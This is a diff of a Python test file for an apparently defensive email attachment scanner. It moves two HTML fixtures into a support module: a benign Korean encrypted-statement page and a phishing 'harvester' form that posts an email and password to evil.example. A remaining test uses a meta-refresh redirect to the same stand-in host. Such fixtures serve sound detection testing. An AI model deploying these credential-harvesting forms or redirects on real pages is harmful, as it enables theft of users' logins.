@@ -12,7 +12,7 @@ from app.policy.signal_scores import SIGNAL_SCORES
 from app.policy.signals import message_signals
 from app.scan.documents import document_findings
 
-from tests.support.documents import ole, ooxml
+from tests.support.documents import HARVESTER, SECURE_STATEMENT, ole, ooxml
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
@@ -59,24 +59,6 @@ def test_html_attachments_with_forms_scripts_or_redirects():
     assert kinds("c.html", b'<meta http-equiv="refresh" content="0;url=https://evil.example">') == ["html-script"]
     assert kinds("d", b"<p>Invoice attached</p>", "text/html") == []
     assert kinds("notes.txt", b"<form>") == []
-
-
-# A Korean 보안메일: the statement travels encrypted in the page and a script decrypts it in the browser once the
-# reader types a birth date or a business number. Nothing is sent anywhere.
-SECURE_STATEMENT = (
-    '<html><head><meta charset="utf-8"><title>보안메일</title></head><body>'
-    "<p>사업자등록번호 10자리를 입력하세요.</p>"
-    '<input type="password" id="k" maxlength="10"><button onclick="openStatement()">확인</button>'
-    '<div id="doc"></div><script>var sealed="' + base64.b64encode(bytes(range(256)) * 8).decode() + '";'
-    "function openStatement(){var key=document.getElementById('k').value;"
-    "document.getElementById('doc').innerHTML=decrypt(atob(sealed),key);}</script></body></html>"
-)
-HARVESTER = (
-    "<html><body><p>Enter your mailbox password to view the invoice.</p>"
-    '<form method="POST" action="http://evil.example/login.php"><input name="email">'
-    '<input type="password" name="pass"><button>View</button></form>'
-    "<script>document.forms[0].pass.focus();</script></body></html>"
-)
 
 
 def page_signals(name: str, page: str, *, sender: str, text: str) -> dict:
